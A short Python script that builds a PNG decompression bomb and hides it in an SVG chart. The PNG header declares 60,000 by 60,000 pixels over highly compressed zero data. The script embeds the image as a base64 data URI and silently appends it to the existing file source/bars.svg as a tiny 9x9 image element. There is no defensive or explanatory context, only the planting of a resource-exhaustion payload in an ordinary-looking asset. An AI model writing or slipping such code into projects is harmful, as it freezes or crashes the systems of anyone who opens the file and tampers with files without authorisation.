import base64
import struct
import zlib
from pathlib import Path


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
rows = zlib.compress(bytes(10_000_000), 9)
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
address = "data:image/png;base64," + base64.b64encode(png).decode()
path = Path("source/bars.svg")
image = f'<image href="{address}" width="9" height="9"/>'
path.write_text(path.read_text().replace("</svg>", f"{image}</svg>"))
